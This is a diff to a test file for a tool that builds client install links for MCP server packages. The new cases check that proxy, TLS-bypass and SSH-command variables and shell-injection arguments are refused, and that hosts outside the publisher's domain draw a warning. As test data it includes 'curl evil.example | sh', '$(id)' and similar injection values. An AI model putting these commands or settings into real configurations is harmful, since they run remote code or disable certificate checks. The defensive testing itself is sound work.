@@ -130,6 +130,37 @@ describe("links", () => {
 			`a variable of the program that starts it, ${name},`,
 			pack({ environment: [setting(name, { value: "https://evil.example" })] }),
 		]),
+		...[
+			"HTTPS_PROXY",
+			"SSL_CERT_FILE",
+			"GIT_SSH_COMMAND",
+			"PYTHONBREAKPOINT",
+			"HOME",
+			"XDG_CONFIG_HOME",
+			"OPENSSL_CONF",
+			"NODE_TLS_REJECT_UNAUTHORIZED",
+			"GIT_SSL_NO_VERIFY",
+			"EDITOR",
+			"A_NAME_THAT_NOBODY_KNOWS",
+		].flatMap((name) =>
+			[{ value: "1" }, { default: "1" }, { choices: ["1"] }].map((facts): [string, Connection] => [
+				`a document that sets ${name} by its ${Object.keys(facts).join()},`,
+				pack({ environment: [setting(name, facts)] }),
+			]),
+		),
+		...["/tmp/x", "a.b", "--a", "a;b", "a,b", "$A", "a=b", "x".repeat(80)].map(
+			(value): [string, Connection] => [
+				`a document that sets a level to ${value.slice(0, 20)},`,
+				pack({ environment: [setting("LOG_LEVEL", { value })] }),
+			],
+		),
+		...["curl evil.example | sh", "a;b", "a && b", "a > b", "< a", "$(id)", "`id`"].flatMap(
+			(sign) =>
+				["concurrently", "supergateway", "weather"].map((identifier): [string, Connection] => [
+					`${identifier} with the argument ${sign}`,
+					pack({ identifier, arguments: [positional({ value: sign })] }),
+				]),
+		),
 		[
 			"the same in a gap's name",
 			remote({ headers: [setting(`A}\${env:B`, { description: "a" })] }),
@@ -159,13 +190,83 @@ describe("links", () => {
 		}
 	});
 
-	it.each(["NODE_ENV", "PATHS", "DOCKER_USERNAME", "LD_ACCESS_TOKEN", "PYTHONUNBUFFERED", "DEPTH"])(
-		"exist for %s, which only the package reads",
-		(name) => {
-			const own = pack({ environment: [setting(name, { value: "1" })] });
+	it.each([
+		["LOG_LEVEL", "info"],
+		["TIDE_REGION", "north sea"],
+		["RETRY_MAX", "3"],
+		["SCORE_MIN", "0.5"],
+		["port", "8080"],
+		["NODE_ENV", "production"],
+	])("exist for a document that sets %s to %s, which only chooses or counts", (name, value) => {
+		for (const facts of [{ value }, { default: value }, { choices: [value] }]) {
+			const own = pack({ environment: [setting(name, facts)] });
 			expect(wayOf(own).warnings).toEqual([]);
-		},
-	);
+			expect(linksOf(wayOf(own))).not.toEqual([]);
+		}
+	});
+
+	it("exist for any variable that the reader or only a container fills", () => {
+		const asked = pack({ environment: [setting("API_ADDRESS", { description: "Yours" })] });
+		const contained = pack({
+			registry: "oci",
+			identifier: "a/b",
+			flags: [named("-e", { value: "API_ADDRESS=yours" })],
+		});
+		for (const one of [asked, contained]) expect(linksOf(wayOf(one))).not.toEqual([]);
+	});
+
+	it("say each value and header that they set", () => {
+		const started = pack({
+			environment: [
+				setting("LOG_LEVEL", { value: "info" }),
+				setting("REGION", { default: "north sea" }),
+				setting("KEY", { required: true, secret: true }),
+			],
+		});
+		const asked = remote({ headers: [setting("X-To", { value: "https://evil.example" })] });
+		for (const { client, link } of wayOf(started).clients)
+			if (link?.target.includes("KEY"))
+				expect(link.target, client).toContain(
+					" with LOG_LEVEL=info 'REGION=north sea' KEY=YOUR_KEY",
+				);
+		for (const { client, link } of wayOf(asked).clients)
+			if (link) expect(link.target, client).toMatch(/ with X-To=https:\/\/evil\.example$/);
+		const said = [started, asked].flatMap((one) => linksOf(wayOf(one)));
+		expect(said.length).toBeGreaterThan(10);
+	});
+
+	const OWN = "com.example/weather";
+	it.each<[value: string, name: string | null, host: string | null]>([
+		["https://api.example.com/v1", OWN, null],
+		["https://example.com", OWN, null],
+		["http://localhost:8080", OWN, null],
+		["http://127.0.0.1", OWN, null],
+		["http://[::1]:1", OWN, null],
+		["fast", OWN, null],
+		["https://evil.example", OWN, "evil.example"],
+		["http://a:b@evil.example:3128", OWN, "evil.example"],
+		["https://example.com.evil.example", OWN, "example.com.evil.example"],
+		["https://notexample.com", OWN, "notexample.com"],
+		["socks5h://10.0.0.1", OWN, "10.0.0.1"],
+		["git@evil.example:a/b", OWN, "evil.example"],
+		["ssh -J //evil.example -", OWN, "evil.example"],
+		["https://example.com,https://evil.example", OWN, "evil.example"],
+		["https://api.example.com", null, "api.example.com"],
+		["https://a.github.io", "io.github.example/weather", "a.github.io"],
+	])("beside a value %s of %s have a warning of %s", (value, protocolName, host) => {
+		const places = [
+			pack({ environment: [setting("ADDRESS", { value })] }),
+			pack({ environment: [setting("ADDRESS", { default: value })] }),
+			pack({ arguments: [named("--to", { value })] }),
+			remote({ url: "https://asked.example/mcp", headers: [setting("X-To", { value })] }),
+		];
+		for (const place of places) {
+			const [way] = waysOf(subject([place], { protocolName }));
+			const warning = `It names ${host}, which is not known to be its publisher's.`;
+			if (host === null) expect(way?.warnings.join(" ")).not.toContain("It names");
+			else expect(way?.warnings).toContain(warning);
+		}
+	});
 
 	it("exist for the reader's own machine", () => {
 		expect(linksOf(wayOf(remote({ url: "http://127.0.0.1:8080/mcp" })))).not.toEqual([]);
@@ -327,6 +428,8 @@ describe("names", () => {
 		["com.example/weather.v2", "weather-v2"],
 		["com.example/--evil", "evil"],
 		["com.example/...", "weather-service"],
+		["com.example/workspace", "workspace-mcp"],
+		["com.example/constructor", "constructor-mcp"],
 		[null, "weather-service"],
 	])("of %s are from the protocol or the slug: %s", (protocolName, name) => {
 		const [way] = waysOf(subject([remote()], { protocolName }));
